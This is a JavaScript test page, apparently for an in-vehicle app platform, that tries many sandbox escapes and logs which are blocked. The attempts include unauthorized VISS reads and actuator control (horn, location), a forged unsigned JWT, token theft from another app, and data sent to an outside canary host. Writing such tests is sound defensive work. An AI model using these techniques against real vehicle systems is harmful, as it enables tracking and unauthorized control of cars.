// An app that tries all that a page can think of, and says what came of each; runs behind the app's own walls.
const told = {};
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const within = (promise, ms = 1500) =>
  Promise.race([promise, wait(ms).then(() => { throw new Error("nothing came"); })]);
const loads = (element, attribute, address) =>
  within(new Promise((resolve, reject) => {
    element.onload = () => resolve("loaded");
    element.onerror = () => reject(new Error("refused"));
    element[attribute] = address;
    document.body.append(element);
  }));
const socket = (address, ...more) =>
  within(new Promise((resolve, reject) => {
    const one = new WebSocket(address, ...more);
    one.onopen = () => resolve("open");
    one.onclose = () => reject(new Error("refused"));
  }));
const make = (name, words = {}) => Object.assign(document.createElement(name), words);

async function attempts(aim) {
  const { cockpit, viss, canary, other, udp } = aim;
  const ask = (request, token) => within((async () => {
    const address = new URL("../viss", location.href);
    address.protocol = "ws:";
    const one = new WebSocket(address, "VISSv2");
    await new Promise((resolve) => { one.onopen = resolve; });
    const answer = new Promise((resolve) => { one.onmessage = (e) => resolve(JSON.parse(e.data)); });
    one.send(JSON.stringify({ requestId: "1", authorization: token, ...request }));
    const { error, data } = await answer;
    one.close();
    if (error) throw new Error(error.reason);
    return data ?? "done";
  })());
  const { token } = await (await fetch("../token", { method: "POST" })).json();
  return {
    "call by WebRTC of a frame's": () => { const one = make("iframe"); document.body.append(one); return new one.contentWindow.RTCPeerConnection(); },
    "call by WebRTC of a frame of words": () => within(new Promise((resolve) => { addEventListener("message", resolve); document.body.append(make("iframe", { srcdoc: "<script>parent.postMessage(typeof RTCPeerConnection, '*')<\/script>" })); })),
    "call by WebRTC of a picture's": () => within(new Promise((resolve) => { addEventListener("message", resolve); document.body.append(make("iframe", { src: "evil.svg" })); })),
    "open a connection ahead": () => loads(make("link", { rel: "preconnect" }), "href", canary),
    "fetch the driver's page": () => fetch(cockpit, { mode: "no-cors" }),
    "fetch the driver's page as an image": () => loads(make("img"), "src", `${cockpit}drive/icon.svg`),
    "open the driver's socket": () => socket(`${cockpit.replace("http", "ws")}live`),
    "open VISS with all rights": () => socket(viss.replace("http", "ws"), "VISSv2"),
    "fetch VISS with all rights": () => fetch(`${viss}/Vehicle/CurrentLocation`, { mode: "no-cors" }),
    "set by VISS with all rights": () => fetch(`${viss}/Vehicle/Body/Horn/IsActive`, { method: "POST", mode: "no-cors", body: '{"value":"true"}' }),
    "fetch another app's page": () => fetch(other, { mode: "no-cors" }),
    "get another app's token": async () => (await fetch(`${other}token`, { method: "POST" })).json(),
    "open another app's VISS": () => socket(`${other.replace("http", "ws")}viss`, "VISSv2"),
    "fetch from the world": () => fetch(canary, { mode: "no-cors" }),
    "send a beacon": () => { if (!navigator.sendBeacon(canary, "secret")) throw new Error("refused"); return wait(500).then(() => { throw new Error("only queued"); }); },
    "load an image from the world": () => loads(make("img"), "src", canary),
    "load a script from the world": () => loads(make("script"), "src", canary),
    "load a style from the world": () => loads(make("link", { rel: "stylesheet" }), "href", canary),
    "prefetch from the world": () => loads(make("link", { rel: "prefetch" }), "href", canary),
    "hear events from the world": () => within(new Promise((resolve, reject) => { const one = new EventSource(canary); one.onopen = resolve; one.onerror = () => { one.close(); reject(new Error("refused")); }; })),
    "frame the driver's page": () => loads(make("iframe"), "src", `${cockpit}drive/`).then(() => { throw new Error("an empty frame"); }),
    "open a window": () => { if (!window.open(`${cockpit}drive/`)) throw new Error("refused"); },
    "send a form": () => { const form = make("form", { action: canary, method: "post" }); document.body.append(form); form.submit(); return wait(500).then(() => { throw new Error("nothing came"); }); },
    "lead the window away": () => { top.location.href = canary; },
    "read our frame": () => top.document.title,
    "read our frame's address": () => top.location.href,
    "keep a cookie": () => { document.cookie = "a=b"; return document.cookie; },
    "keep in local storage": () => localStorage.setItem("a", "b"),
    "keep in a database": () => within(new Promise((resolve, reject) => { const one = indexedDB.open("a"); one.onsuccess = resolve; one.onerror = () => reject(one.error); })),
    "keep in a cache": () => caches.open("a"),
    "install a service worker": () => navigator.serviceWorker.register("main.js"),
    "start a worker": () => within(new Promise((resolve, reject) => { const one = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); one.onmessage = resolve; one.onerror = () => reject(new Error("refused")); })),
    "call the world by WebRTC": () => within(new Promise((resolve, reject) => { const one = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${udp}` }] }); one.createDataChannel("x"); one.onicecandidate = (e) => e.candidate?.type === "srflx" && resolve(); one.createOffer().then((offer) => one.setLocalDescription(offer)); setTimeout(() => reject(new Error("no candidate")), 1200); })),
    "run made words": () => eval("1"),
    "run a script in the page": () => { const script = make("script"); script.textContent = "window.made = 1"; document.body.append(script); if (!window.made) throw new Error("refused"); },
    "use the camera": () => navigator.mediaDevices.getUserMedia({ video: true }),
    "read the place of the device": () => within(new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))),
    "read the clipboard": () => navigator.clipboard.readText(),
    "fill the screen": () => document.documentElement.requestFullscreen(),
    "ask the person": () => { if (alert("?") === undefined) throw new Error("nothing shown"); },
    "hear what our frame is told": () => socket(new URL("../state", location.href).href.replace("http", "ws")),
    "read a signal that is not granted": () => ask({ action: "get", path: "Vehicle.CurrentLocation.Latitude" }, token),
    "hear all signals": () => ask({ action: "subscribe", path: "Vehicle" }, token),
    "read what was, not granted": () => ask({ action: "get", path: "Vehicle.CurrentLocation.Latitude", filter: { type: "history", parameter: "PT60S" } }, token),
    "move an actuator that is not granted": () => ask({ action: "set", path: "Vehicle.Body.Horn.IsActive", value: "true" }, token),
    "read without a token": () => ask({ action: "get", path: "Vehicle.Speed" }),
    "read with a made token": () => ask({ action: "get", path: "Vehicle.Speed" }, "eyJhbGciOiJub25lIn0.eyJzY29wZSI6InJlYWQifQ."),
    "read files of the package besides the page": async () => { const got = await fetch("../../app.toml"); if (!got.ok) throw new Error(String(got.status)); },
    "(control) read a signal that is granted": () => ask({ action: "get", path: "Vehicle.Speed" }, token),
  };
}

(async () => {
  const aim = await (await fetch("aim.json")).json();
  for (const [name, attempt] of Object.entries(await attempts(aim))) {
    try {
      await within(Promise.resolve(attempt()), 3000);
      told[name] = "passes";
    } catch (error) {
      told[name] = `held: ${error.name} ${error.message}`;
    }
  }
  document.querySelector("#told").textContent = JSON.stringify(told);
})();
